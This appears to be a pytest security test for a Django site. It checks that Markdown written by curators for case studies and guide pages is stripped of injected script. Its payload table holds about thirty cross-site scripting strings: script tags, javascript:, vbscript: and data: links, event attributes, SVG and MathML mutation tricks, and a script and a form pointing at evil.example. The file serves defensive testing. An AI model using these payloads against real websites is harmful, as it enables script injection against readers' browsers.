"""Curated Markdown cannot put script into a public page.

Curators write the body of a case study and the descriptions of the guide's concepts and
resources in Markdown, which passes HTML through; core/markup.py cleans the result with nh3.
A careless paste or a stolen curator account must still not reach a reader's browser with
script. Each payload below is stored, the public page is rendered, and the page is parsed:
no script element (the page's own JSON-LD data block aside), no event attribute, no
``javascript:``, ``vbscript:`` or ``data:`` address, no frame, object, form, style, SVG or MathML.
"""

from html.parser import HTMLParser

import pytest

from casestudies.models import CaseStudy
from core.markup import render_markdown
from guide.models import Principle, Resource
from tests.html_inspection import injected_markup

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script element": "<script>alert(1)</script>",
    "script from elsewhere": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split by a comment": "<scr<!-- -->ipt>alert(1)</script>",
    "markdown javascript link": "[click](javascript:alert(1))",
    "markdown javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "markdown javascript link, entity": "[click](&#106;avascript:alert(1))",
    "markdown javascript link, tab": "[click](java&#09;script:alert(1))",
    "markdown reference link": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "markdown autolink": "<javascript:alert(1)>",
    "html javascript link": '<a href="javascript:alert(1)">html link</a>',
    "html javascript link, spaces": '<a href="  javascript:alert(1)">spaced</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">vb</a>',
    "onerror on an image": '<img src=x onerror="alert(1)">',
    "markdown image with an event": '![picture](x" onerror="alert(1))',
    "onclick on a link": '<a href="https://example.org" onclick="steal()">link</a>',
    "ontoggle on details": "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "base element": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=alert(1)>",
    "svg javascript link": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "data: link, markdown": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data: link, html": '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "style attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "style element": "<style>body { display: none }</style>",
    "form": '<form action="https://evil.example/"><input name="x"><button>go</button></form>',
    "event attribute in a table cell": "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
}


class _Scripts(HTMLParser):
    def __init__(self):
        super().__init__()
        self.types = []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.types.append(dict(attrs).get("type"))


def script_types(html):
    parser = _Scripts()
    parser.feed(html)
    return parser.types


def assert_clean(response):
    html = response.content.decode()
    assert injected_markup(html) == []
    # The only script element a case-study or guide page has is its JSON-LD description (data).
    assert set(script_types(html)) <= {"application/ld+json"}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_case_study_body_cannot_inject_script(client, payload):
    case_study = CaseStudy.objects.get(slug="bolsa-verde")
    case_study.body = f"Fine text before.\n\n{payload}\n\nText after, which broken markup may swallow."
    case_study.save()

    response = client.get(case_study.get_absolute_url())

    assert response.status_code == 200
    assert_clean(response)
    assert "Fine text before." in response.content.decode()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_guide_concept_cannot_inject_script(client, payload):
    principle = Principle.objects.get(slug="mutual-benefit")
    principle.description = f"What the principle means.\n\n{payload}"
    principle.save()

    response = client.get(principle.get_absolute_url())

    assert response.status_code == 200
    assert_clean(response)
    assert "What the principle means." in response.content.decode()


def test_a_resource_description_cannot_inject_script(client):
    resource = Resource.objects.order_by("pk").first()
    resource.description = "\n\n".join(PAYLOADS.values())
    resource.save()

    response = client.get("/guide/resources/")

    assert response.status_code == 200
    assert_clean(response)


def test_every_payload_at_once_leaves_the_text_and_safe_links():
    html = render_markdown("[the guide](https://www.ilo.org/) and **bold**\n\n" + "\n\n".join(PAYLOADS.values()))

    assert injected_markup(html) == []
    assert script_types(html) == []
    assert '<a href="https://www.ilo.org/" rel="noopener noreferrer">the guide</a>' in html
    assert "<strong>bold</strong>" in html
    assert ">html link</a>" in html  # the link's text stays, its address goes
